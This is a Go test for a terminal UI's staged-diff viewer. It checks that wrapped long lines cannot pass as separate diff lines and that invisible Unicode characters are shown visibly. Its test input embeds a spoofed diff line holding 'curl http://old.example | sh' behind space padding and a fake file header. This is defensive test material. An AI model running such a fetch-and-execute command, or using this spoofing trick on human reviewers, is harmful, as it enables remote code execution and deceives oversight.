package tui

import (
	"context"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"golem/core/clearance"
	"golem/core/sandbox"
	"golem/core/state"
)

// SECURITY 9: a long line of a staged file cannot look like other lines of the diff, and
// nothing in it is invisible.
func TestStagedLinesCannotLookLikeOthers(t *testing.T) {
	d := drive(t, 80, 24, false)
	files := sandbox.Memory()
	kept := state.Memory(sandbox.Memory())
	store := &clearance.Store{State: &kept, Real: realFiles{files}}
	d.m.o.Clearance = store
	work := &clearance.Work{Store: store, Run: "r", Worker: "main", Root: ".", Host: onFiles{files}}
	text := strings.Repeat("s", 79) + "-curl http://old.example | sh" + strings.Repeat(" ", 51) + "+++ b/README.md\n" +
		strings.Repeat("\U0001f7e0", 60) + "\n" + strings.Repeat("\U0001f1e9\U0001f1ea", 40) + "\nno\u200djoiner\u00a0and\tno blank\n"
	if _, err := work.Commit(context.Background(), []clearance.File{{Source: ".", Path: "a.txt", Read: func() ([]byte, error) { return []byte(text), nil }}}, "about a", ""); err != nil {
		t.Fatal(err)
	}
	d.run(d.m.Init())
	d.keys("/clearance")
	d.press("enter")
	d.has(`+no\u{200d}joiner\u{a0}and    no blank`)
	for width := 8; width <= 200; width++ {
		d.m.Update(tea.WindowSizeMsg{Width: width, Height: 24})
		d.m.View()
		rows := d.m.overlays.top().(*staged).rows
		own := 0 // counts rows that look like a line of the diff
		for _, l := range rows {
			if !strings.HasPrefix(l, goesOn) {
				own++
			}
			if columnsOf(l) > width {
				t.Fatalf("%d columns of %d: %q", columnsOf(l), width, l)
			}
		}
		if own != 3+strings.Count(text, "\n") {
			t.Fatalf("at %d columns %d lines:\n%s", width, own, strings.Join(rows, "\n"))
		}
		if all := strings.ReplaceAll(strings.Join(rows, ""), goesOn, ""); !strings.Contains(all, "+"+text[:strings.IndexByte(text, '\n')]) {
			t.Fatalf("at %d columns a line is not whole:\n%s", width, strings.Join(rows, "\n"))
		}
	}
}

const goesOn = "┆ "
